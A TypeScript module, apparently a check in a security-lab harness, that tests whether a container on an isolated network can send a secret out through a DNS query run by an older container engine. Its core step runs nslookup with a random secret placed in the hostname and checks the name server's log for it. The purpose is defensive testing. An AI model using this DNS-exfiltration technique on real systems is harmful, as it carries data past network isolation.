import { randomBytes } from 'node:crypto'
import { type HostProbe, type Message, msg, type Params, verbatim } from '../../contract/index.ts'
import { inspectContainer } from '../shared/containers.ts'
import { api, isDone } from '../shared/daemon-api.ts'
import { execIn } from '../shared/exec-in.ts'
import { attemptRun, refused, succeeded, untried, type Attacker, type Ending } from '../shared/attempt.ts'
import { QUESTIONS } from './planted.ts'
import { isNewer } from './versions.ts'

export const attempt = {
  title: msg`Carry something out of a room without a door`,
  description: msg`Ask the engine how old it is. Then, from a container on a network that has no way out, carry a secret past the engine by a hole that was closed in the newer one: as a name that somebody outside is asked to look up.`,
  run: attemptRun('upgrade', attack),
}

async function attack({ lab, params, step }: Attacker): Promise<Ending> {
  const { vault = '' } = params
  const master = lab.host('master')
  const version = await versionOf(master)
  if (version === undefined) {
    step(msg`Ask the engine for its version`, msg`nobody answers`, false)
    return untried(msg`No engine answers, so there is nothing to attack; that says nothing about your work.`)
  }
  const old = !isNewer(version)
  step(
    msg`Ask the engine for its version`,
    old ? msg`${version}: its holes are listed in public` : verbatim(version),
    old,
  )
  const ready = await canBeTried(master, params)
  if (ready !== undefined) {
    step(msg`Get into ${vault}`, ready, false)
    return old
      ? succeeded(msg`An engine of version ${version} runs, with holes that are known to everybody.`)
      : untried(msg`The way out could not be tried: ${ready}.`)
  }
  const leaked = await carryOut(master, params)
  step(
    msg`In ${vault}, on a network without a way out, look up the secret as a name`,
    leaked
      ? msg`the name server of master was asked for it: the engine carried it out`
      : msg`the name server of master was never asked`,
    leaked,
  )
  if (leaked)
    return succeeded(msg`The secret left the network that has no way out, in a question for a name.`)
  return old
    ? succeeded(msg`An engine of version ${version} runs, with holes that are known to everybody.`)
    : refused(msg`The engine is new, and what is on a network without a way out stays there.`)
}

async function versionOf(host: HostProbe): Promise<string | undefined> {
  const answer = await api(host, { path: '/version' })
  if (!isDone(answer)) return undefined
  return (answer.json as { Version?: string } | undefined)?.Version
}

/** Why it can't be tried: a name that nobody could have heard proves nothing. */
async function canBeTried(host: HostProbe, { vault = '' }: Params): Promise<Message | undefined> {
  const [found, unit] = await Promise.all([
    inspectContainer(host, vault),
    host.unit('name-server.service', ['ActiveState']),
  ])
  if (!found?.State.Running) return msg`${vault} does not run`
  return unit.ActiveState === 'active' ? undefined : msg`the name server of master does not run`
}

/** A fresh secret each time; its only way out is a question, and the name server writes down what it is asked. */
async function carryOut(host: HostProbe, { vault = '' }: Params): Promise<boolean> {
  const secret = randomBytes(8).toString('hex')
  await execIn(host, vault, { cmd: ['timeout', '2', 'nslookup', `${secret}.example`] })
  return (await host.readFile(QUESTIONS))?.includes(secret) === true
}
